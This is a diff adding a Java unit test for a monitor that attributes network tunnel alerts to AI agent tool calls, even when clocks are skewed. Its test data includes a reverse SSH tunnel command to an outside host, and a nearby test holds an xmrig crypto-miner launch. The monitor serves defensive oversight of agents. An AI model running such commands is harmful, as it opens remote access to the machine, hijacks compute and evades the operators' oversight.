@@ -178,6 +178,22 @@ class AgentContextHarnessTest {
     }
 
     @Test
+    void aCallStartedInTheNextMinuteWithinTheClocksSkewOfTheFirstPacketIsNamed() throws Exception {
+        // the first packet half a second before the window ends; the call that made it, by a clock 1.5 s ahead of the
+        // exporter's, started in the next minute: within the skew the ranking allows, so it is still the cause
+        sample("python", at(0));
+        seen("203.0.113.7", 22, at(4) - 500);
+        send(call("ep-tunnel", at(4) + 1_000, at(4) + 2_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
+        alert(tunnelAlert(3));
+        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
+
+        Alert out = harness.extractOutputValues().get(0);
+        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-tunnel");
+        assertThat(out.getAgentContext().get(0).getReason())
+                .startsWith("tool call started 1.5 s after the first packet to 203.0.113.7:22");
+    }
+
+    @Test
     void aNewGpuProcessAnchorsAndTheJobsOwnDoesNot() throws Exception {
         sample("python", at(0));
         send(call("ep-miner", at(2) + 1_000, at(2) + 2_000, "nohup ./xmrig -o pool.example:3333 &"));
